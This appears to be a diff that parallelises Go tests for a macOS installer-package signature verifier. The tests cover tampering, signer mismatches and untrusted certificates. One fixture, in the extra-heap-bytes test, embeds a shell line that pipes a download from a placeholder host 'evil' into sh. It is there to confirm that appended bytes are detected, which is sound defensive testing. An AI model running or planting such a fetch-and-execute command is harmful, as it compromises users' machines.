@@ -70,6 +70,7 @@ func statuses(res *Result) string {
 }
 
 func TestVerifyValid(t *testing.T) {
+	t.Parallel()
 	b, _ := pkgfile.Build(signedSpec(t))
 	res := verifyBytes(t, b, machofile.SignTime)
 	if got := statuses(res); got != "apple-pkg:valid apple-pkg-cms:valid" || len(res.Findings) != 0 {
@@ -87,6 +88,7 @@ func TestVerifyValid(t *testing.T) {
 // TestVerifyTimestampMovesValidationTime: checked years after the leaf
 // expired, the package is valid because its CMS timestamp verifies.
 func TestVerifyTimestampMovesValidationTime(t *testing.T) {
+	t.Parallel()
 	b, _ := pkgfile.Build(signedSpec(t))
 	later := machofile.SignTime.AddDate(20, 0, 0)
 	if got := statuses(verifyBytes(t, b, later)); got != "apple-pkg:valid apple-pkg-cms:valid" {
@@ -102,6 +104,7 @@ func TestVerifyTimestampMovesValidationTime(t *testing.T) {
 }
 
 func TestVerifySHA256AndRSAOnly(t *testing.T) {
+	t.Parallel()
 	s := signedSpec(t)
 	s.CMS, s.Hash = false, crypto.SHA256
 	b, _ := pkgfile.Build(s)
@@ -114,6 +117,7 @@ func TestVerifySHA256AndRSAOnly(t *testing.T) {
 // stored checksum left alone, fails the checksum; with the checksum
 // recomputed, both signatures fail.
 func TestVerifyTamperedTOC(t *testing.T) {
+	t.Parallel()
 	spec := signedSpec(t)
 	spec.TSA = nil // a CMS of fixed length, so both heaps line up
 	good, lay := pkgfile.Build(spec)
@@ -139,6 +143,7 @@ func TestVerifyTamperedTOC(t *testing.T) {
 
 // TestVerifyTamperedFileData: one byte of a file's heap data changed.
 func TestVerifyTamperedFileData(t *testing.T) {
+	t.Parallel()
 	b, lay := pkgfile.Build(signedSpec(t))
 	b[lay.HeapStart+lay.Data["a.pkg/Payload"]+3] ^= 1
 	res := verifyBytes(t, b, machofile.SignTime)
@@ -153,6 +158,7 @@ func TestVerifyTamperedFileData(t *testing.T) {
 // TestVerifyOtherTeam: a package re-signed with another team's valid
 // installer certificate verifies, naming that team, for policy to refuse.
 func TestVerifyOtherTeam(t *testing.T) {
+	t.Parallel()
 	p, _ := testPKI(t)
 	s := signedSpec(t)
 	s.Signer = p.OtherTeam
@@ -165,6 +171,7 @@ func TestVerifyOtherTeam(t *testing.T) {
 
 // TestVerifySignerMismatch: the CMS by one team and the RSA by another.
 func TestVerifySignerMismatch(t *testing.T) {
+	t.Parallel()
 	p, _ := testPKI(t)
 	s := signedSpec(t)
 	s.CMSSigner = p.OtherTeam
@@ -176,6 +183,7 @@ func TestVerifySignerMismatch(t *testing.T) {
 }
 
 func TestVerifyUntrustedRoot(t *testing.T) {
+	t.Parallel()
 	p, _ := testPKI(t)
 	s := signedSpec(t)
 	s.Signer, s.Chain, s.CMS = p.Untrusted, nil, false
@@ -189,6 +197,7 @@ func TestVerifyUntrustedRoot(t *testing.T) {
 // TestVerifyApplicationCertificate: a Developer ID Application certificate
 // may not sign installer packages.
 func TestVerifyApplicationCertificate(t *testing.T) {
+	t.Parallel()
 	p, _ := testPKI(t)
 	s := signedSpec(t)
 	s.Signer, s.CMS = p.Leaf, false
@@ -202,6 +211,7 @@ func TestVerifyApplicationCertificate(t *testing.T) {
 // TestVerifyWrongSignedBytes: an RSA signature over something else than
 // the checksum.
 func TestVerifyWrongSignedBytes(t *testing.T) {
+	t.Parallel()
 	s := signedSpec(t)
 	s.CMS, s.SignWith = false, make([]byte, 20)
 	b, _ := pkgfile.Build(s)
@@ -212,6 +222,7 @@ func TestVerifyWrongSignedBytes(t *testing.T) {
 }
 
 func TestVerifyUnsigned(t *testing.T) {
+	t.Parallel()
 	b, _ := pkgfile.Build(pkgfile.Spec{Files: plainFiles()})
 	res := verifyBytes(t, b, machofile.SignTime)
 	if len(res.Signatures) != 0 || len(res.Findings) != 0 || !res.TOCChecksumOK || !res.FilesOK {
@@ -222,6 +233,7 @@ func TestVerifyUnsigned(t *testing.T) {
 // TestVerifyExtraHeapBytes: bytes appended after the heap belong to
 // nothing: reported, and the signatures no longer vouch for the file.
 func TestVerifyExtraHeapBytes(t *testing.T) {
+	t.Parallel()
 	s := signedSpec(t)
 	s.ExtraHeap = []byte("#!/bin/sh\ncurl evil | sh\n")
 	b, _ := pkgfile.Build(s)
@@ -234,6 +246,7 @@ func TestVerifyExtraHeapBytes(t *testing.T) {
 // TestVerifyMissingArchivedChecksum: a file the table binds by no checksum
 // is not covered by the signature.
 func TestVerifyMissingArchivedChecksum(t *testing.T) {
+	t.Parallel()
 	s := signedSpec(t)
 	s.Files = append(plainFiles(), pkgfile.File{Path: "a.pkg/Scripts", Data: []byte("unbound"), NoChecksums: true})
 	b, _ := pkgfile.Build(s)
